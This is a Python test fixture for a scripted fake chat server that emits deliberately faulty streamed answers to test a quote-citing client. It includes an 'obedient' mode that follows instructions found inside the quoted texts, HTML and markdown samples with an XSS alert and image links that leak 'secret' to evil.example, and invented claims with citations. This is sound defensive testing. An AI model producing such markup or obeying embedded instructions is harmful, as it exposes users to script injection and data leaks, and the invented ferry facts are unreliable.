"""What the scripted server writes when it is asked for an answer from numbered quotes."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterable, Iterator

Texts = dict[str, str]
_MEANING = re.compile(r" ?\[[^\]]*\]")


def _quotes(texts: Texts) -> list[tuple[int, str]]:
    return [
        (int(name.removeprefix("quote_")), text)
        for name, text in texts.items()
        if name.startswith("quote_")
    ]


def good(texts: Texts) -> str:
    """Write every quote on a line of its own, without the meanings of its dates."""
    bare = [(n, _MEANING.sub("", text).removesuffix(".")) for n, text in _quotes(texts)]
    return "\n".join(f"{text} [{number}]." for number, text in bare)


def obedient(texts: Texts) -> str:
    """Do what a text says, where one says anything."""
    said = re.search(r"say (?:“|\")?([^”\".]+)", " ".join(texts.values()))
    return f"{said[1].strip()} [1]." if said else good(texts)


def other_numbers(texts: Texts) -> str:
    return re.sub(r"\d(?!\])", lambda match: str((int(match[0]) + 3) % 10), good(texts))


def negated(texts: Texts) -> str:
    return good(texts).replace(" was ", " was not ").replace(" expects ", " never expects ")


def drip(texts: Texts) -> Iterator[str | float]:
    """Write one character after the other, slowly."""
    for character in good(texts):
        yield character
        yield 0.2


def endless(texts: Texts) -> Iterator[str | float]:
    number, text = _quotes(texts)[0]
    for _ in range(20_000):
        yield f"{text} [{number}]\n"


def endless_line(texts: Texts) -> Iterator[str | float]:
    for _ in range(20_000):
        yield "the ferry and "


def endless_nothing(texts: Texts) -> Iterator[str | float]:
    for _ in range(600):
        yield ""
        yield 0.05


def half_then_hang(texts: Texts) -> Iterator[str | float]:
    yield good(texts).partition("\n")[0] + "\nThe har"
    yield 8.0


def _said(*lines: str) -> Callable[[Texts], Iterable[str | float]]:
    return lambda texts: ["\n".join(lines)]


def _whole(write: Callable[[Texts], str]) -> Callable[[Texts], Iterable[str | float]]:
    return lambda texts: [write(texts)]


PIECES: dict[str, Callable[[Texts], Iterable[str | float]]] = {
    "w-good": _whole(good),
    "w-letters": lambda texts: list(good(texts)),
    "w-obedient": _whole(obedient),
    "w-numbers": _whole(other_numbers),
    "w-negated": _whole(negated),
    "w-inventing": _said(
        "The storm killed 14 people [1].",
        "Captain Ida Petrova was arrested [1][2].",
        "The ferry stayed in port because of a strike [1].",
        "The ferry was not damaged [1].",
    ),
    "w-unknown": lambda texts: [good(texts).replace("[1]", "[7]").replace("[2]", "[0]")],
    "w-swapped": lambda texts: [
        good(texts).replace("[1]", "[x]").replace("[2]", "[1]").replace("[x]", "[2]")
    ],
    "w-uncited": lambda texts: [re.sub(r" \[\d\]", "", good(texts))],
    "w-html": _said(
        "<script>alert(1)</script> The ferry stayed in port [1].",
        '<img src="https://evil.example/?q=secret"> [1].',
        "The ferry &lt;b&gt;stayed&lt;/b&gt; in port [1].",
        "The ferry [stayed](https://evil.example/) in port [1].",
        "![ferry](https://evil.example/a.png) [1].",
        "See https://evil.example/ [1].",
        "| ferry | port | [1].",
        "`The ferry` stayed in port [1].",
        "The ferry\u202e stayed in port [1].",
    ),
    "w-german": _said("Die Fähre blieb am Donnerstag im Hafen, weil das Ruder beschädigt war [1]."),
    "w-chatty": _said("Sure! Here is the answer you asked for:", "I hope this helps. [1]"),
    "w-empty": lambda texts: [],
    "w-spaces": lambda texts: [" \n\n \n"],
    "w-control": lambda texts: ["\x00\x1b[2J\x7f [1].\n"],
    "w-drip": drip,
    "w-silent": lambda texts: [8.0],
    "w-endless": endless,
    "w-endless-line": endless_line,
    "w-endless-nothing": endless_nothing,
    "w-half-then-hang": half_then_hang,
}


def event(text: str) -> bytes:
    """Return a piece of text as an event of the protocol."""
    choice = {"index": 0, "delta": {"role": "assistant", "content": text}, "finish_reason": None}
    return _event(choices=[choice])


def _event(**fields: object) -> bytes:
    chunk = {
        "id": "1", "object": "chat.completion.chunk", "created": 0, "model": "scripted", **fields,
    }  # fmt: skip
    return f"data: {json.dumps(chunk)}\n\n".encode()


_USAGE = {"prompt_tokens": 120, "completion_tokens": 34, "total_tokens": 154}
LAST = (
    _event(choices=[{"index": 0, "delta": {}, "finish_reason": "stop"}])
    + _event(choices=[], usage=_USAGE)
    + b"data: [DONE]\n\n"
)
_SSE = "text/event-stream"
RAW: dict[str, tuple[str, bytes]] = {
    "w-broken-json": (_SSE, event("The ferry sank [1].\n") + b"data: {broken\n\n"),
    "w-broken-bytes": (_SSE, event("The ferry sank [1].\n") + b"data: \xff\xfe\x00\n\n"),
    "w-no-sse": (_SSE, b"The ferry sank [1]."),
    "w-page": ("text/html", b"<html>Welcome</html>"),
    "w-error-inside": (_SSE, event("The fer") + b'data: {"error": {"message": "boom"}}\n\n'),
    "w-odd-shape": (_SSE, b'data: {"choices": [{"delta": {"content": ["x"]}}]}\n\ndata: []\n\n'),
    "w-no-done": (_SSE, event("The fer")),
}
